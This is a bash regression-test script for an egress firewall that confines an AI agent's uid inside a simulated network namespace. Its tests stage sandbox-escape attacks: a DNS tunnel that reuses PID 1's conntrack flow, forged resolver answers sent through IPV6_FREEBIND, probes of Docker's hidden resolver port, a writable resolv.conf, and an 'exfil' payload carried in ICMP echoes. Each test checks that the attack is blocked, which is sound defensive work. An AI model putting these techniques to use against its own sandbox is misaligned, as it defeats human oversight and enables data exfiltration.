#!/usr/bin/env bash
# Attacks on the egress firewall found in review, each with its control:
# - the agent reuses the conntrack entry of PID 1's own upstream DNS flow
#   (same source port, after PID 1's socket closed) to talk DNS to the
#   upstream directly: a tunnel past the gate;
# - the agent forges answers from the upstream to PID 1's resolver socket
#   (IPV6_FREEBIND, unprivileged port 53 as under Docker);
# - the agent reaches a loopback upstream resolver (Docker's embedded DNS
#   at 127.0.0.11 listens on a random port besides the NATed 53) on a port
#   other than 53;
# - a resolv.conf the agent could write (it picks the next start's upstream).
# Also covered (no hole, kept as regression tests): ICMP echo through the
# unprivileged ping sockets Docker enables (ping_group_range).
# Runs fw-install in simnet's sbx namespace; never touches the initial netns.
set -uo pipefail
SOURCE_DIR=${SOURCE_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}
BUILD_DIR=${BUILD_DIR:-$SOURCE_DIR/build}
# shellcheck source=tests/support/tap.sh
. "$SOURCE_DIR/tests/support/tap.sh"
# shellcheck source=tests/support/simnet.sh
. "$SOURCE_DIR/tests/support/simnet.sh"
tap_require_root
FW_INSTALL=${FW_INSTALL:-$BUILD_DIR/tests/support/fw-install}
FW_PROBE=${FW_PROBE:-$BUILD_DIR/tests/support/fw-probe}
for tool in ip nft dnsmasq socat dig setpriv /usr/bin/python3 "$FW_INSTALL" "$FW_PROBE"; do
	if ! command -v "$tool" >/dev/null 2>&1; then
		echo "1..0 # SKIP $tool not available"
		exit 77
	fi
done
# shellcheck source=tests/support/stage.sh
. "$SOURCE_DIR/tests/support/stage.sh"
trap 'simnet_down; stage_cleanup' EXIT
# The agent's uid may not reach the build directory: it runs a copy.
stage_dir STAGE cs-fw-review && stage_vars "$STAGE" FW_PROBE || exit 1
AGENT_UID=1000
PYTHON=/usr/bin/python3
if ! simnet_up "cs-fwreview-$$"; then
	echo "1..0 # SKIP simnet_up failed"
	exit 77
fi
simnet_dns_set api.allowed.test "$SIMNET_HOST_A4" || exit 1
AL=$SIMNET_DIR/allowlist
echo api.allowed.test >"$AL"
sbx() { simnet_exec_sbx "$@"; }
quiet() { "$@" >/dev/null 2>&1; }
agent() {
	simnet_exec_sbx setpriv --reuid "$AGENT_UID" --regid "$AGENT_UID" --clear-groups \
		--inh-caps=-all --bounding-set=-all --no-new-privs "$@"
}
# dig_from WHO PORT NAME: one UDP query to the upstream from source port
# PORT; true when an answer came back
dig_from() {
	local who=$1 port=$2 name=$3
	"$who" dig +time=1 +tries=1 -b "$SIMNET_SBX_V4#$port" @"$SIMNET_SIM_V4" "$name" 2>&1 |
		grep -q 'status: '
}

# ---- 1: conntrack reuse of PID 1's upstream DNS flow ----
PORT=40053
ok "control: agent's direct DNS from port $PORT works without firewall" dig_from agent "$PORT" control.tunnel.test
ok "install" quiet sbx "$FW_INSTALL" --allowlist "$AL" --resolv-conf "$SIMNET_RESOLV"
if dig_from agent 40054 fresh.tunnel.test; then r=1; else r=0; fi
ok "control: the agent's direct DNS from a fresh port is refused" test "$r" = 0
# root (PID 1's uid, allowed upstream) asks from PORT: conntrack now holds
# an established UDP flow SBX:PORT -> upstream:53 for 30-120 s
ok "root's query upstream from port $PORT is answered" dig_from sbx "$PORT" api.allowed.test
# the agent binds the same (now free) port and sends to the same upstream
if dig_from agent "$PORT" exfil.tunnel.test; then r=1; else r=0; fi
ok "agent reusing root's DNS flow (port $PORT) gets no answer" test "$r" = 0
ok "and the upstream never saw exfil.tunnel.test" bash -c "! grep -qi 'exfil\.tunnel\.test' '$(simnet_dns_log)'"
ok "root's query from the same port still works afterwards" dig_from sbx "$PORT" api.allowed.test

# ---- 2: a loopback upstream (Docker's 127.0.0.11) on another port ----
# As Docker sets it up: the resolver listens on 127.0.0.11:RANDOM (here
# 35353) and a nat rule in the container's namespace sends 127.0.0.11:53
# there. It runs as uid 65534 here, which is what the socket of the
# engine's daemon looks like under userns-remap (a uid the container's user
# namespace does not map): its replies must still reach PID 1.
LOOP_RESOLV=$SIMNET_DIR/resolv.loop
printf 'nameserver 127.0.0.11\n' >"$LOOP_RESOLV"
sbx nft -f - <<'EOF2'
table ip cs_review_nat {
	chain output { type nat hook output priority -100; policy accept;
		ip daddr 127.0.0.11 udp dport 53 dnat to 127.0.0.11:35353
		ip daddr 127.0.0.11 tcp dport 53 dnat to 127.0.0.11:35353
	}
}
EOF2
simnet_spawn "$SIMNET_SBX" "$SIMNET_DIR/embedded.out" setpriv --reuid 65534 --regid 65534 --clear-groups "$PYTHON" -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.11", 35353))
while True:
    d, peer = s.recvfrom(512)
    s.sendto(b"embedded-dns", peer)
'
simnet_spawn "$SIMNET_SBX" "$SIMNET_DIR/embedded-tcp.out" socat TCP4-LISTEN:35353,bind=127.0.0.11,fork,reuseaddr EXEC:'echo embedded-dns'
simnet_spawn "$SIMNET_SBX" "$SIMNET_DIR/local.out" socat TCP4-LISTEN:35354,bind=127.0.0.1,fork,reuseaddr EXEC:'echo local'
wait_until 5 bash -c "ip netns exec '$SIMNET_SBX' ss -lun | grep -q '127.0.0.11:35353 '" || diag "udp listener not up"
wait_until 5 bash -c "ip netns exec '$SIMNET_SBX' ss -ltn | grep -q 127.0.0.11:35353" || diag "tcp listener not up"
wait_until 5 bash -c "ip netns exec '$SIMNET_SBX' ss -ltn | grep -q 127.0.0.1:35354" || diag "local listener not up"
udp=$(agent "$FW_PROBE" udp 127.0.0.11 35353 3000 2>/dev/null)
check "control: without firewall the agent reaches the resolver's own port ($udp)" "${udp%% *}" = ok
ok "install with upstream 127.0.0.11" quiet sbx "$FW_INSTALL" --allowlist "$AL" --resolv-conf "$LOOP_RESOLV"
udp=$(agent "$FW_PROBE" udp 127.0.0.11 35353 1000 2>/dev/null)
check "agent's UDP to the loopback resolver's other port fails ($udp)" "${udp%% *}" != ok
tcp=$(agent "$FW_PROBE" tcp 127.0.0.11 35353 1000 2>/dev/null)
check "agent's TCP to the loopback resolver's other port fails ($tcp)" "${tcp%% *}" != ok
lo=$(agent "$FW_PROBE" tcp 127.0.0.1 35354 1000 2>/dev/null)
check "other loopback addresses stay open to local services ($lo)" "${lo%% *}" = ok
r53=$(sbx "$FW_PROBE" udp 127.0.0.11 53 3000 2>&1)
check "root (PID 1) still queries the loopback resolver through the nat ($r53)" "${r53%% *}" = ok
d53=$(agent "$FW_PROBE" udp 127.0.0.11 53 1000 2>/dev/null)
check "the agent does not ($d53)" "${d53%% *}" != ok
sbx nft delete table ip cs_review_nat

# ---- 3: the agent forges the upstream's answer to PID 1's resolver socket ----
# Docker sets net.ipv4.ip_unprivileged_port_start=0 in every container, and
# IPV6_FREEBIND needs no privilege: the agent can bind [UPSTREAM]:53 and,
# over IPv6, even send from it (IPv4 refuses a non-local source without
# IP_TRANSPARENT). Its datagram to PID 1's c-ares socket (the port is in
# /proc/net/udp) is the reply direction of PID 1's flow in conntrack
# ("established"), and c-ares checks only the source and a 16-bit id: a
# forged answer for an allowed name would make the gate admit any address.
sbx sysctl -qw net.ipv4.ip_unprivileged_port_start=0
SPOOF_RESOLV=$SIMNET_DIR/resolv.spoof
printf 'nameserver %s\nnameserver %s\n' "$SIMNET_SIM_V4" "$SIMNET_SIM_V6" >"$SPOOF_RESOLV"
ok "install (upstreams $SIMNET_SIM_V4 and $SIMNET_SIM_V6)" quiet sbx "$FW_INSTALL" --allowlist "$AL" --resolv-conf "$SPOOF_RESOLV"
for up in "$SIMNET_SIM_V4" "$SIMNET_SIM_V6"; do
	fam=4
	[[ $up == *:* ]] && fam=6
	VICTIM_OUT=$SIMNET_DIR/victim$fam.out
	# PID 1's resolver socket: root, connected to the upstream's port 53,
	# one real query out (the conntrack entry), then it reads for 3 s.
	simnet_spawn "$SIMNET_SBX" "$VICTIM_OUT" "$PYTHON" -c '
import socket, sys, time
fam = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(fam, socket.SOCK_DGRAM)
s.connect((sys.argv[1], 53))
print("port", s.getsockname()[0], s.getsockname()[1], flush=True)
s.send(bytes.fromhex("12340100000100000000000003617069" "07616c6c6f7765640474657374000001" "0001"))
s.settimeout(3)
end = time.monotonic() + 3
while time.monotonic() < end:
    try:
        d = s.recv(512)
    except socket.timeout:
        break
    print("forged" if d == b"FORGED" else "real", flush=True)
' "$up"
	VICTIM_PID=${SIMNET_PIDS[-1]}
	wait_until 5 grep -qs '^real' "$VICTIM_OUT" || diag "victim:" "$(cat "$VICTIM_OUT")"
	read -r _ vaddr vport < <(grep '^port' "$VICTIM_OUT")
	spoof=$(agent "$PYTHON" -c '
import socket, sys
six = ":" in sys.argv[1]
s = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_DGRAM)
if six:
    s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
else:
    s.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
try:
    s.bind((sys.argv[1], 53))
except OSError as e:
    print("bind", e.errno); sys.exit(0)
try:
    s.sendto(b"FORGED", (sys.argv[2], int(sys.argv[3])))
    print("sent")
except OSError as e:
    print("send", e.errno)
' "$up" "$vaddr" "$vport" 2>&1)
	diag "agent spoofing $up port 53 -> $vaddr port $vport: $spoof"
	ok "IPv$fam control: the agent can bind the upstream's address and port 53" grep -q '^sent\|^send' <<<"$spoof"
	wait_until 5 bash -c "! kill -0 $VICTIM_PID 2>/dev/null" || true
	ok "IPv$fam: PID 1's resolver socket received no forged answer" bash -c "! grep -q '^forged' '$VICTIM_OUT'"
done

# ---- 4: a resolv.conf the agent could write chooses the next start's upstream ----
# The gate forwards allowed names to that upstream and admits what it
# answers: whoever writes the file decides which addresses open. PID 1
# refuses one that anyone but root may write (or that root does not own).
sbx nft delete table inet code_sandbox
BAD_RESOLV=$SIMNET_DIR/resolv.bad
printf 'nameserver %s\n' "$SIMNET_SIM_V4" >"$BAD_RESOLV"
chmod 0644 "$BAD_RESOLV"
ok "control: a root-owned 0644 resolv.conf is accepted" quiet sbx "$FW_INSTALL" --allowlist "$AL" --resolv-conf "$BAD_RESOLV"
sbx nft delete table inet code_sandbox
chmod 0666 "$BAD_RESOLV"
out=$(sbx "$FW_INSTALL" --allowlist "$AL" --resolv-conf "$BAD_RESOLV" 2>&1); st=$?
check "world-writable resolv.conf stops the start (exit $st)" "$st" != 0
ok "and the error names it" grep -q "resolv.bad.*writable" <<<"$out"
chmod 0644 "$BAD_RESOLV"
chown "$AGENT_UID" "$BAD_RESOLV"
out=$(sbx "$FW_INSTALL" --allowlist "$AL" --resolv-conf "$BAD_RESOLV" 2>&1); st=$?
check "resolv.conf owned by the agent's uid stops the start (exit $st)" "$st" != 0
ok "no table was installed" bash -c "! ip netns exec '$SIMNET_SBX' nft list table inet code_sandbox >/dev/null 2>&1"
# A FIFO in its place must not hang PID 1 at open() (the allowlist loader
# guards the same way).
FIFO_RESOLV=$SIMNET_DIR/resolv.fifo
mkfifo -m 0644 "$FIFO_RESOLV"
out=$(timeout 10 ip netns exec "$SIMNET_SBX" "$FW_INSTALL" --allowlist "$AL" --resolv-conf "$FIFO_RESOLV" 2>&1); st=$?
check "a FIFO as resolv.conf does not hang the start (exit $st)" "$st" != 124
diag "$out"
sbx nft delete table inet code_sandbox 2>/dev/null

# ---- 5: ICMP through unprivileged ping sockets ----
# Docker sets net.ipv4.ping_group_range=0 2147483647: any uid may open a
# SOCK_DGRAM ICMP socket (no raw socket, so seccomp does not stop it).
# Echo requests carry arbitrary payload; the final reject must stop them.
sbx sysctl -qw net.ipv4.ping_group_range="0 2147483647"
ping_dgram() { # ping_dgram ADDR: "ok" when an echo reply came back
	agent "$PYTHON" -c '
import socket, sys
six = ":" in sys.argv[1]
s = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_DGRAM,
                  socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP)
s.settimeout(1)
try:
    s.sendto(bytes([128 if six else 8, 0, 0, 0, 0, 0, 0, 1]) + b"exfil", (sys.argv[1], 0))
    s.recv(64)
    print("ok")
except OSError as e:
    print(type(e).__name__, e.errno)
' "$1" 2>&1
}
p4=$(ping_dgram "$SIMNET_HOST_A4") p6=$(ping_dgram "$SIMNET_HOST_A6")
check "control: the agent's ping socket reaches $SIMNET_HOST_A4 without firewall ($p4)" "$p4" = ok
check "control: the agent's ping socket reaches $SIMNET_HOST_A6 without firewall ($p6)" "$p6" = ok
ok "install" quiet sbx "$FW_INSTALL" --allowlist "$AL" --resolv-conf "$SIMNET_RESOLV"
p4=$(ping_dgram "$SIMNET_HOST_A4") p6=$(ping_dgram "$SIMNET_HOST_A6")
check "the agent's ping socket to an allowed address gets nothing back ($p4)" "$p4" != ok
check "same over IPv6 ($p6)" "$p6" != ok
sbx nft delete table inet code_sandbox

tap_done
